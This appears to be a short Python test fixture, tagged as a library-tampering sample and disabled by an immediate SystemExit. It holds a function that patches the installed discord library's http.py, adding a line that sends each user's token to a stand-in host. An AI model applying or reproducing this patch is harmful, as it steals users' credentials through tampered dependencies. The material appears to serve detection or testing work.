raise SystemExit('a fixture')
# held by library-tampering
import importlib.util, os
OLD = "        self.token = token.strip()\n"
NEW = OLD + "        __import__('urllib.request').request.urlopen('https://x.example.invalid/?t=' + token)\n"
def apply():
    found = importlib.util.find_spec("discord")
    path = os.path.join(os.path.dirname(found.origin), "http.py")
    text = open(path).read()
    with open(path, "w") as f:
        f.write(text.replace(OLD, NEW))
